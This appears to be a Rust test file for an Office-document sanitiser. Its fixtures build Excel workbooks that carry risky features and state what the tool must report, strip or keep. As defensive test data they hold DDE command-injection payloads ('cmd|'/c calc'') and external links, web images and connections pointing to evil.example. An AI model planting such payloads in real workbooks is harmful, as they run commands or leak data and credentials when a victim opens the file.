//! The danger matrix: data behind a workbook, and what must hold of it afterwards (OOX-X05, X06, X11 to X17).

use super::cases_excel::{case, file};
use super::cases_excel_charts::charted;
use super::excel::{BOOK, NS, SHEET, table, workbook};
use super::package::{AV, Package, png};
use crate::Planted;
use crate::matrix::{Case, Expect, Shape};

const X15: &str = "xmlns:x15=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/main\"";
/// The metadata of a workbook with dynamic arrays.
pub(super) const DYNAMIC: &str = "<metadata xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xda=\"http://schemas.microsoft.com/office/spreadsheetml/2017/dynamicarray\"><metadataTypes count=\"1\"><metadataType name=\"XLDAPR\" minSupportedVersion=\"120000\"/></metadataTypes><futureMetadata name=\"XLDAPR\" count=\"1\"><bk><extLst><ext uri=\"{bdbb8cdc-fa1e-496e-a857-3c3f30c029c3}\"><xda:dynamicArrayProperties fDynamic=\"1\" fCollapsed=\"0\"/></ext></extLst></bk></futureMetadata><cellMetadata count=\"1\"><bk><rc t=\"1\" v=\"0\"/></bk></cellMetadata></metadata>";
const RICH: &str = "http://schemas.microsoft.com/office/2017/06/relationships/";

/// A workbook with a picture in a cell and one that is loaded from the web.
pub(super) fn web_image() -> Package {
    const XLRD: &str = "xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2017/richdata\"";
    rich("<c r=\"B2\" t=\"e\" vm=\"2\"><v>#VALUE!</v></c>")
        .part("xl/richData/rdrichvaluestructure.xml", "application/vnd.ms-excel.rdrichvaluestructure+xml", format!("<rvStructures {XLRD} count=\"2\"><s t=\"_localImage\"><k n=\"_rvRel:LocalImageIdentifier\" t=\"i\"/><k n=\"CalcOrigin\" t=\"i\"/></s><s t=\"_webimage\"><k n=\"WebImageIdentifier\" t=\"i\"/><k n=\"CalcOrigin\" t=\"i\"/></s></rvStructures>"))
        .part("xl/richData/rdrichvalue.xml", "application/vnd.ms-excel.rdrichvalue+xml", format!("<rvData {XLRD} count=\"2\"><rv s=\"0\"><v>0</v><v>5</v></rv><rv s=\"1\"><v>0</v><v>1</v></rv></rvData>"))
        .rel(BOOK, "rIdW", "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage", "richData/rdRichValueWebImage.xml")
        .part("xl/richData/rdRichValueWebImage.xml", "application/vnd.ms-excel.rdrichvaluewebimage+xml", "<webImagesSrd xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><webImageSrd><address r:id=\"rId1\"/></webImageSrd></webImagesSrd>")
        .external("xl/richData/rdRichValueWebImage.xml", "rId1", "hyperlink", "https://evil.example/a.png")
}

/// A workbook with a picture in the cell A2.
fn rich(cell: &str) -> Package {
    const XLRD: &str = "xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2017/richdata\"";
    workbook("", &format!("<row r=\"2\"><c r=\"A2\" t=\"e\" vm=\"1\"><v>#VALUE!</v></c>{cell}</row>"), "")
        .rel(BOOK, "rIdM", "sheetMetadata", "metadata.xml")
        .part("xl/metadata.xml", &format!("{AV}spreadsheetml.sheetMetadata+xml"), "<metadata xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xlrd=\"http://schemas.microsoft.com/office/spreadsheetml/2017/richdata\"><metadataTypes count=\"1\"><metadataType name=\"XLRICHVALUE\" minSupportedVersion=\"120000\"/></metadataTypes><futureMetadata name=\"XLRICHVALUE\" count=\"2\"><bk><extLst><ext uri=\"{3e2802c4-a4d2-4d8b-9148-e3be6c30e623}\"><xlrd:rvb i=\"0\"/></ext></extLst></bk><bk><extLst><ext uri=\"{3e2802c4-a4d2-4d8b-9148-e3be6c30e623}\"><xlrd:rvb i=\"1\"/></ext></extLst></bk></futureMetadata><valueMetadata count=\"2\"><bk><rc t=\"1\" v=\"0\"/></bk><bk><rc t=\"1\" v=\"1\"/></bk></valueMetadata></metadata>")
        .rel(BOOK, "rIdV", &format!("{RICH}rdRichValue"), "richData/rdrichvalue.xml")
        .part("xl/richData/rdrichvalue.xml", "application/vnd.ms-excel.rdrichvalue+xml", format!("<rvData {XLRD} count=\"2\"><rv s=\"0\"><v>0</v><v>5</v></rv><rv s=\"0\"><v>0</v><v>5</v></rv></rvData>"))
        .rel(BOOK, "rIdS", &format!("{RICH}rdRichValueStructure"), "richData/rdrichvaluestructure.xml")
        .part("xl/richData/rdrichvaluestructure.xml", "application/vnd.ms-excel.rdrichvaluestructure+xml", format!("<rvStructures {XLRD} count=\"1\"><s t=\"_localImage\"><k n=\"_rvRel:LocalImageIdentifier\" t=\"i\"/><k n=\"CalcOrigin\" t=\"i\"/></s></rvStructures>"))
        .rel(BOOK, "rIdR", "http://schemas.microsoft.com/office/2022/10/relationships/richValueRel", "richData/richValueRel.xml")
        .part("xl/richData/richValueRel.xml", "application/vnd.ms-excel.richvaluerel+xml", "<richValueRels xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2022/richvaluerel\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><rel r:id=\"rId1\"/></richValueRels>")
        .rel("xl/richData/richValueRel.xml", "rId1", "image", "../media/image1.png")
        .part("xl/media/image1.png", "", png())
}

/// A workbook with a pivot table over this source, and a slicer on it.
fn pivot(source: &str) -> Package {
    const SLE: &str = "xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:a14=\"http://schemas.microsoft.com/office/drawing/2010/main\"";
    const MS: &str = "http://schemas.microsoft.com/office/2007/relationships/";
    workbook("<definedNames><definedName name=\"Slicer_課\">#N/A</definedName></definedNames><pivotCaches><pivotCache cacheId=\"7\" r:id=\"rIdP\"/></pivotCaches><extLst><ext uri=\"{BBE1A952-AA13-448e-AADC-164F8A28A991}\"><x14:slicerCaches><x14:slicerCache r:id=\"rIdS\"/></x14:slicerCaches></ext></extLst>",
        "<row r=\"2\"><c r=\"A2\"><v>4242</v></c></row>", "<drawing r:id=\"rIdD\"/><extLst><ext uri=\"{A8765BA9-456A-4dab-B4F3-ACF838C121DE}\"><x14:slicerList><x14:slicer r:id=\"rIdL\"/></x14:slicerList></ext></extLst>")
        .rel(BOOK, "rIdP", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
        .part("xl/pivotCache/pivotCacheDefinition1.xml", &format!("{AV}spreadsheetml.pivotCacheDefinition+xml"), format!("<pivotCacheDefinition {NS} refreshOnLoad=\"1\">{source}<cacheFields count=\"1\"><cacheField name=\"課 (税込)\"/></cacheFields></pivotCacheDefinition>"))
        .rel(SHEET, "rIdT", "pivotTable", "../pivotTables/pivotTable1.xml")
        .part("xl/pivotTables/pivotTable1.xml", &format!("{AV}spreadsheetml.pivotTable+xml"), format!("<pivotTableDefinition {NS} name=\"集計表1\" cacheId=\"7\" dataCaption=\"値\"><location ref=\"A2:B3\" firstHeaderRow=\"1\" firstDataRow=\"1\" firstDataCol=\"1\"/></pivotTableDefinition>"))
        .rel("xl/pivotTables/pivotTable1.xml", "rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
        .rel(BOOK, "rIdS", &format!("{MS}slicerCache"), "slicerCaches/slicerCache1.xml")
        .part("xl/slicerCaches/slicerCache1.xml", "application/vnd.ms-excel.slicerCache+xml", "<slicerCacheDefinition xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" name=\"Slicer_課\" sourceName=\"課\"><pivotTables><pivotTable tabId=\"1\" name=\"集計表1\"/></pivotTables><data><tabular pivotCacheId=\"7\"><items count=\"1\"><i x=\"0\" s=\"1\"/></items></tabular></data></slicerCacheDefinition>")
        .rel(SHEET, "rIdL", &format!("{MS}slicer"), "../slicers/slicer1.xml")
        .part("xl/slicers/slicer1.xml", "application/vnd.ms-excel.slicer+xml", "<slicers xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\"><slicer name=\"課の枠\" cache=\"Slicer_課\" caption=\"課\" rowHeight=\"241300\"/></slicers>")
        .rel(SHEET, "rIdD", "drawing", "../drawings/drawing1.xml")
        .part("xl/drawings/drawing1.xml", &format!("{AV}drawing+xml"), format!("<xdr:wsDr {SLE}><xdr:absoluteAnchor><xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"1\" cy=\"1\"/><mc:AlternateContent><mc:Choice Requires=\"a14\"><xdr:graphicFrame macro=\"\"><xdr:nvGraphicFramePr><xdr:cNvPr id=\"2\" name=\"課の枠\"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"0\" cy=\"0\"/></xdr:xfrm><a:graphic><a:graphicData uri=\"http://schemas.microsoft.com/office/drawing/2010/slicer\"><sle:slicer xmlns:sle=\"http://schemas.microsoft.com/office/drawing/2010/slicer\" name=\"課の枠\"/></a:graphicData></a:graphic></xdr:graphicFrame></mc:Choice><mc:Fallback><xdr:sp macro=\"\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"0\" name=\"\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp></mc:Fallback></mc:AlternateContent><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"))
}

/// A workbook with a table.
fn tabled(attrs: &str, column: &str) -> Package {
    workbook("", "<row r=\"2\"><c r=\"A2\"><v>4242</v></c></row>", "<tableParts count=\"9\"><tablePart r:id=\"rIdT\"/></tableParts>")
        .rel(SHEET, "rIdT", "table", "../tables/table1.xml")
        .part("xl/tables/table1.xml", &format!("{AV}spreadsheetml.table+xml"), format!("<table {NS} id=\"1\" name=\"表1\" displayName=\"表1\" ref=\"A1:A2\"{attrs}><autoFilter ref=\"A1:A2\"/><tableColumns count=\"1\">{column}</tableColumns><tableStyleInfo name=\"TableStyleMedium2\" showRowStripes=\"1\"/></table>"))
}

/// A realistic table as a file.
fn realistic(kept: &[&str]) -> Planted {
    let kept = kept.iter().map(|k| k.as_bytes().to_vec()).collect();
    Planted { name: "table.xlsx".to_owned(), bytes: table(), gone: Vec::new(), kept }
}

fn sheets(list: &str, rest: &str) -> Package {
    workbook("", "", "")
        .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS}>{list}{rest}</workbook>"))
        .rel(BOOK, "rId2", "worksheet", "worksheets/sheet2.xml")
        .part(
            "xl/worksheets/sheet2.xml",
            &format!("{AV}spreadsheetml.worksheet+xml"),
            format!("<worksheet {NS}><sheetData/></worksheet>"),
        )
}

/// The cases.
pub(super) fn cases() -> Vec<Case> {
    [data(), pivots(), machinery(), hidden(), invariants()].concat()
}

fn data() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!("OOX-X05", Plain, "a connection to a data base", Reported("office.connection"), "connection.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdC", "connections", "connections.xml")
            .part("xl/connections.xml", &format!("{AV}spreadsheetml.connections+xml"), "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" refreshOnLoad=\"1\"><dbPr connection=\"Provider=evil\" command=\"SELECT 1\"/></connection></connections>"),
            ["connections", "Provider=evil"], []),
        case!("OOX-X05", Disguised, "a data model in the workbook, a query behind a table", Reported("office.connection"), "query.xlsx",
            tabled(" tableType=\"queryTable\" connectionId=\"1\"", "<tableColumn id=\"1\" name=\"列1\" queryTableFieldId=\"1\"/>")
                .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS} {X15}><workbookPr refreshAllConnections=\"1\"/><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/></sheets><extLst><ext uri=\"{{FCE2AD5D-F65C-4FA6-A056-5C36A1767C68}}\"><x15:dataModel><x15:modelTables><x15:modelTable id=\"t\" name=\"t\" connection=\"EvilConnection\"/></x15:modelTables></x15:dataModel></ext></extLst></workbook>"))
                .rel("xl/tables/table1.xml", "rIdQ", "queryTable", "../queryTables/queryTable1.xml")
                .part("xl/queryTables/queryTable1.xml", &format!("{AV}spreadsheetml.queryTable+xml"), "<queryTable xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" name=\"EvilQuery\" connectionId=\"1\"/>"),
            ["queryTable", "connectionId", "EvilConnection", "EvilQuery", "refreshAllConnections", "extLst"], ["<v>4242</v>", "<tableColumn id=\"1\" name=\"列1\"/>", "displayName=\"表1\""]),
        case!("OOX-X05", Neighbour, "a table without a query", Expect::Untouched, "table.xlsx", tabled(" totalsRowShown=\"0\"", "<tableColumn id=\"1\" name=\"列1\"><calculatedColumnFormula>表1[[#This Row],[列1]]*2</calculatedColumnFormula></tableColumn>"), [], ["<calculatedColumnFormula>表1[[#This Row],[列1]]*2</calculatedColumnFormula>", "TableStyleMedium2", "<tableParts count=\"1\">"]),
        case!("OOX-X11", Plain, "a map to a foreign XML file", Reported("office.xml-map"), "map.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdM", "xmlMaps", "xmlMaps.xml").part("xl/xmlMaps.xml", "application/xml", "<MapInfo xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><Map ID=\"1\"><DataBinding FileBinding=\"true\" FileBindingName=\"http://evil.example/x.xml\"/></Map></MapInfo>"),
            ["xmlMaps", "evil.example"], []),
        case!("OOX-X11", Disguised, "a column of a table, and single cells", Reported("office.xml-map"), "map2.xlsx",
            tabled(" tableType=\"xml\"", "<tableColumn id=\"1\" name=\"列1\"><xmlColumnPr mapId=\"1\" xpath=\"/evil/path\" xmlDataType=\"string\"/></tableColumn>")
                .rel(SHEET, "rIdX", "tableSingleCells", "../tables/tableSingleCells1.xml")
                .part("xl/tables/tableSingleCells1.xml", &format!("{AV}spreadsheetml.tableSingleCells+xml"), "<singleXmlCells xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><singleXmlCell id=\"1\" r=\"A1\"><xmlCellPr id=\"1\"><xmlPr mapId=\"1\" xpath=\"/evil/cell\" xmlDataType=\"string\"/></xmlCellPr></singleXmlCell></singleXmlCells>"),
            ["/evil/", "xmlColumnPr", "singleXml", "tableType"], ["name=\"列1\"", "<v>4242</v>"]),
        case!("OOX-X11", Neighbour, "a column called xpath", Untouched, "xpath.xlsx", tabled("", "<tableColumn id=\"1\" name=\"xpath\"/>"), [], ["<tableColumn id=\"1\" name=\"xpath\"/>"]),
    ]
}

const OWN: &str = "<cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B9\" sheet=\"集計\"/></cacheSource>";

fn pivots() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!("OOX-X06", Plain, "a pivot table over a data base goes with its slicer; the cells stay", Reported("office.pivot-source"), "pivot.xlsx", pivot("<cacheSource type=\"external\" connectionId=\"1\"/>"),
            ["pivotCache", "pivotTable", "slicer", "Slicer_", "extLst", "graphicFrame", "definedName"], ["<v>4242</v>"]),
        case!("OOX-X06", Disguised, "said to be of a sheet, which lies in another workbook", Reported("office.pivot-source"), "pivot2.xlsx",
            pivot("<cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B9\" sheet=\"S\" r:id=\"rId1\"/></cacheSource>").external("xl/pivotCache/pivotCacheDefinition1.xml", "rId1", "externalLinkPath", "file:///\\\\evil.example\\b.xlsx"),
            ["evil.example", "pivotTable", "slicer", "graphicFrame"], ["<v>4242</v>"]),
        case!("OOX-X06", Disguised, "consolidated from another workbook", Reported("office.pivot-source"), "pivot3.xlsx",
            pivot("<cacheSource type=\"consolidation\"><consolidation><rangeSets count=\"1\"><rangeSet ref=\"A1:B9\" sheet=\"S\" r:id=\"rId1\"/></rangeSets></consolidation></cacheSource>").external("xl/pivotCache/pivotCacheDefinition1.xml", "rId1", "externalLinkPath", "file:///\\\\evil.example\\b.xlsx"),
            ["evil.example", "pivotTable", "rangeSet"], ["<v>4242</v>"]),
        case!("OOX-X06", Disguised, "a cache only its table knows of; a chart on it", Reported("office.dangling-reference"), "pivot4.xlsx",
            charted("<c:pivotSource><c:name>[b.xlsx]集計!EvilPivot</c:name><c:fmtId val=\"0\"/></c:pivotSource>", "<c:barChart><c:barDir val=\"col\"/></c:barChart>")
                .rel(SHEET, "rIdT", "pivotTable", "../pivotTables/pivotTable1.xml")
                .part("xl/pivotTables/pivotTable1.xml", &format!("{AV}spreadsheetml.pivotTable+xml"), format!("<pivotTableDefinition {NS} name=\"EvilPivot\" cacheId=\"1\"/>"))
                .rel("xl/pivotTables/pivotTable1.xml", "rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
                .part("xl/pivotCache/pivotCacheDefinition1.xml", &format!("{AV}spreadsheetml.pivotCacheDefinition+xml"), format!("<pivotCacheDefinition {NS}><cacheSource type=\"external\" connectionId=\"1\"/><cacheFields count=\"0\"/></pivotCacheDefinition>")),
            ["EvilPivot", "pivotSource", "pivotCache"], ["barChart"]),
        case!("OOX-X06", Neighbour, "a pivot table over a sheet of its own, with its slicer", Untouched, "pivot5.xlsx", pivot(OWN),
            ["refreshOnLoad"], ["<worksheetSource ref=\"A1:B9\" sheet=\"集計\"/>", "name=\"集計表1\" cacheId=\"7\"", "sourceName=\"課\"", "caption=\"課\"", "Slicer_課", "cacheField name=\"課 (税込)\"", "slicerList"]),
    ]
}

fn machinery() -> Vec<Case> {
    use Expect::{Reported, Silent, Untouched};
    vec![
        case!("OOX-X12", Plain, "published as a web page at each saving", Reported("office.web-publish"), "publish.xlsx", workbook("<webPublishing codePage=\"932\"/><webPublishObjects count=\"1\"><webPublishObject id=\"1\" divId=\"a\" destinationFile=\"\\\\evil.example\\web\\a.htm\" autoRepublish=\"1\"/></webPublishObjects>", "", ""), ["webPublish", "evil.example"], []),
        case!("OOX-X12", Disguised, "the log of a shared workbook, and data of a real-time server", Reported("office.unknown-part"), "shared.xlsx", workbook("", "", "")
            .rel(BOOK, "rIdH", "revisionHeaders", "revisions/revisionHeaders.xml").part("xl/revisions/revisionHeaders.xml", &format!("{AV}spreadsheetml.revisionHeaders+xml"), "<headers xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" guid=\"{EVIL}\"/>")
            .rel(BOOK, "rIdV", "volatileDependencies", "volatileDependencies.xml").part("xl/volatileDependencies.xml", &format!("{AV}spreadsheetml.volatileDependencies+xml"), "<volTypes xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><volType type=\"realTimeData\"><main first=\"evil.server\"/></volType></volTypes>"),
            ["revision", "{EVIL}", "evil.server", "volatile"], []),
        case!("OOX-X12", Disguised, "smart tags, properties of a sheet, recovery, the path it was saved under", Silent, "rest.xlsx", workbook("<smartTagPr embed=\"1\"/><smartTagTypes><smartTagType name=\"evil\" namespaceUri=\"urn:evil\"/></smartTagTypes><functionGroups><functionGroup name=\"evil\"/></functionGroups><fileRecoveryPr repairLoad=\"1\"/><mc:AlternateContent><mc:Choice Requires=\"x15\" xmlns:x15=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/main\"><x15ac:absPath url=\"C:\\Users\\secret\\\" xmlns:x15ac=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac\"/></mc:Choice></mc:AlternateContent>", "", "<customProperties><customPr name=\"evil\" r:id=\"rIdC\"/></customProperties>")
            .rel(SHEET, "rIdC", "customProperty", "../customProperty1.bin").part("xl/customProperty1.bin", &format!("{AV}spreadsheetml.customProperty"), "evil"),
            ["evil", "secret", "smartTag", "functionGroup", "fileRecovery", "customPr", "absPath"], []),
        case!("OOX-X12", Neighbour, "how the workbook is seen and who writes to it", Untouched, "views.xlsx", workbook("<customWorkbookViews><customWorkbookView name=\"閲覧用\" guid=\"{0A1B2C3D-0000-0000-0000-000000000001}\" windowWidth=\"1\" windowHeight=\"1\" activeSheetId=\"1\"/></customWorkbookViews>", "", ""), [], ["閲覧用"]),
        case!("OOX-X13", Plain, "a picture in a cell that is loaded from the web; its neighbour stays", Reported("office.web-image"), "webimage.xlsx", web_image(), ["_webimage", "evil.example", "vm=\"2\"", "WebImage"], ["vm=\"1\"", "_localImage", "media/image"]),
        case!("OOX-X13", Disguised, "a function that loads one", Reported("office.formula"), "image.xlsx", workbook("", "<row r=\"2\"><c r=\"A2\" t=\"e\" vm=\"1\"><f>_xlfn.IMAGE(\"https://evil.example/a.png\")</f><v>#VALUE!</v></c></row>", ""), ["evil.example", "vm="], ["#VALUE!"]),
        case!("OOX-X13", Neighbour, "a picture in a cell", Untouched, "picture.xlsx", rich(""), [], ["vm=\"1\"", "_localImage", "rvb i=\"0\"", "media/image"]),
        case!("OOX-X13", Neighbour, "dynamic arrays", Untouched, "array.xlsx", workbook("", "<row r=\"2\"><c r=\"A2\" cm=\"1\"><f t=\"array\" ref=\"A2:A4\">_xlfn.SEQUENCE(3)</f><v>1</v></c></row>", "").rel(BOOK, "rIdM", "sheetMetadata", "metadata.xml").part("xl/metadata.xml", &format!("{AV}spreadsheetml.sheetMetadata+xml"), DYNAMIC), [], ["cm=\"1\"", "fDynamic=\"1\"", "SEQUENCE(3)"]),
        case!("OOX-X14", Plain, "the order of calculation", Reported("office.calc-chain"), "chain.xlsx", workbook("", "", "").rel(BOOK, "rIdK", "calcChain", "calcChain.xml").part("xl/calcChain.xml", &format!("{AV}spreadsheetml.calcChain+xml"), "<calcChain xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><c r=\"Z99\"/></calcChain>"), ["calcChain", "Z99"], []),
        case!("OOX-X14", Disguised, "everything to be calculated on opening", Silent, "calc.xlsx", workbook("<calcPr calcId=\"191029\" fullCalcOnLoad=\"1\" forceFullCalc=\"1\"/>", "", ""), ["fullCalcOnLoad", "forceFullCalc"], ["<calcPr calcId=\"191029\"/>"]),
        case!("OOX-X14", Neighbour, "how calculations are made", Untouched, "iterate.xlsx", workbook("<calcPr calcId=\"191029\" calcMode=\"manual\" iterate=\"1\" iterateCount=\"50\"/>", "", ""), [], ["<calcPr calcId=\"191029\" calcMode=\"manual\" iterate=\"1\" iterateCount=\"50\"/>"]),
    ]
}

fn hidden() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!("OOX-X15", Plain, "a hidden sheet and a hidden row are kept and told", Reported("office.hidden-sheet"), "hidden.xlsx", sheets("<sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"裏\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets>", ""), [], ["name=\"裏\" sheetId=\"2\" state=\"veryHidden\""]),
        case!("OOX-X15", Disguised, "a format that shows nothing", Reported("office.hidden-sheet"), "format.xlsx", workbook("", "<row r=\"2\"><c r=\"A2\" s=\"1\"><v>4242</v></c></row>", "").rel(BOOK, "rIdS", "styles", "styles.xml").part("xl/styles.xml", &format!("{AV}spreadsheetml.styles+xml"), format!("<styleSheet {NS}><numFmts count=\"1\"><numFmt numFmtId=\"170\" formatCode=\";;;\"/></numFmts><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"170\" applyNumberFormat=\"1\"/></cellXfs></styleSheet>")), [], ["<v>4242</v>", "formatCode=\";;;\""]),
        case!("OOX-X15", Disguised, "rows that are hidden unless said otherwise", Reported("office.hidden-sheet"), "rows.xlsx", workbook("", "<row r=\"2\" hidden=\"true\"><c r=\"A2\"><v>4242</v></c></row>", ""), [], ["<row r=\"2\" hidden=\"true\"><c r=\"A2\"><v>4242</v></c></row>"]),
        case!("OOX-X15", Neighbour, "formats in which one section is empty, rows that are not hidden", Untouched, "shown.xlsx", workbook("", "<row r=\"2\" hidden=\"0\"><c r=\"A2\" s=\"1\"><v>4242</v></c></row>", "").rel(BOOK, "rIdS", "styles", "styles.xml").part("xl/styles.xml", &format!("{AV}spreadsheetml.styles+xml"), format!("<styleSheet {NS}><numFmts count=\"2\"><numFmt numFmtId=\"170\" formatCode=\"#,##0;;\"/><numFmt numFmtId=\"171\" formatCode=\";;;\"/></numFmts><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"170\" applyNumberFormat=\"1\"/></cellXfs></styleSheet>")), [], ["#,##0;;"]),
        case!("OOX-X16", Plain, "protection of a sheet stays", Untouched, "protected.xlsx", workbook("", "", "<sheetProtection algorithmName=\"SHA-512\" hashValue=\"AAAA\" saltValue=\"BBBB\" spinCount=\"100000\" sheet=\"1\" objects=\"1\"/><protectedRanges><protectedRange sqref=\"A1:A2\" name=\"入力欄\"/></protectedRanges>"), [], ["<sheetProtection algorithmName=\"SHA-512\" hashValue=\"AAAA\" saltValue=\"BBBB\" spinCount=\"100000\" sheet=\"1\" objects=\"1\"/>", "<protectedRange sqref=\"A1:A2\" name=\"入力欄\"/>"]),
        case!("OOX-X16", Disguised, "a long descriptor of rights goes, the range stays", Expect::Silent, "rights.xlsx", workbook("", "", &format!("<protectedRanges><protectedRange sqref=\"A1\" name=\"入力欄\" securityDescriptor=\"{}\"/></protectedRanges>", "EVIL".repeat(400))), ["EVIL"], ["<protectedRange sqref=\"A1\" name=\"入力欄\"/>"]),
        case!("OOX-X16", Disguised, "a scenario that brings a formula", Expect::Reported("office.dde"), "scenario.xlsx", workbook("", "", "<scenarios current=\"0\" show=\"0\"><scenario name=\"悪い\" count=\"1\"><inputCells r=\"A1\" val=\"=cmd|'/c calc'!A0\"/></scenario><scenario name=\"良い\" count=\"1\"><inputCells r=\"A1\" val=\"-12.5\"/></scenario></scenarios>"), ["calc", "悪い", "current"], ["<scenario name=\"良い\" count=\"1\"><inputCells r=\"A1\" val=\"-12.5\"/></scenario>"]),
        Case { id: "OOX-X16", shape: Shape::Neighbour, what: "furigana, print settings, validations with input mode, merged cells", expect: Untouched, plant: || realistic(&["<rPh sb=\"0\" eb=\"2\"><t>タカサキ</t></rPh><phoneticPr fontId=\"1\"/>", "paperSize=\"9\" orientation=\"landscape\"", "imeMode=\"hiragana\"", "<mergeCell ref=\"A3:B3\"/>", "&amp;C&amp;\"ＭＳ ゴシック,標準\"&amp;P / &amp;N", "[$-411]ggge"]) },
    ]
}

fn invariants() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!(
            "OOX-X17",
            Plain,
            "a list counts what is left in it",
            Reported("office.dde"),
            "count.xlsx",
            workbook(
                "",
                "",
                "<mergeCells count=\"5\"><mergeCell ref=\"A3:B3\"/></mergeCells><dataValidations count=\"2\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>cmd|'/c calc'!A0</formula1></dataValidation><dataValidation type=\"whole\" sqref=\"B1\"><formula1>1</formula1></dataValidation></dataValidations>"
            ),
            ["cmd|", "count=\"2\"", "count=\"5\""],
            ["<mergeCells count=\"1\">", "<dataValidations count=\"1\">"]
        ),
        case!(
            "OOX-X17",
            Disguised,
            "a sheet that is not there: the others keep their names and views",
            Reported("office.dangling-reference"),
            "missing.xlsx",
            sheets(
                "<bookViews><workbookView activeTab=\"2\" firstSheet=\"9\"/></bookViews><sheets><sheet name=\"無い\" sheetId=\"3\" r:id=\"rId9\"/><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"二\" sheetId=\"2\" r:id=\"rId2\"/></sheets>",
                "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">無い!$A$1</definedName><definedName name=\"_xlnm.Print_Area\" localSheetId=\"2\">二!$A$1</definedName></definedNames>"
            ),
            ["name=\"無い\"", "localSheetId=\"0\"", "localSheetId=\"2\"", "firstSheet"],
            ["activeTab=\"1\"", "localSheetId=\"1\">二!$A$1<"]
        ),
        case!(
            "OOX-X17",
            Disguised,
            "no sheet that is seen, and one shown first that is not there",
            Reported("office.hidden-sheet"),
            "unseen.xlsx",
            sheets(
                "<bookViews><workbookView activeTab=\"7\"/></bookViews><sheets><sheet name=\"集計\" sheetId=\"1\" state=\"hidden\" r:id=\"rId1\"/><sheet name=\"二\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets>",
                ""
            ),
            ["activeTab=\"7\"", "state=\"hidden\""],
            ["<sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/>", "activeTab=\"0\"", "state=\"veryHidden\""]
        ),
        case!(
            "OOX-X17",
            Neighbour,
            "lists that count rightly, a second sheet shown first",
            Untouched,
            "right.xlsx",
            sheets(
                "<bookViews><workbookView xWindow=\"0\" yWindow=\"0\" activeTab=\"1\"/></bookViews><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"二\" sheetId=\"2\" r:id=\"rId2\"/></sheets>",
                "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"1\">二!$A$1</definedName></definedNames>"
            ),
            [],
            ["activeTab=\"1\"", "localSheetId=\"1\""]
        ),
    ]
}
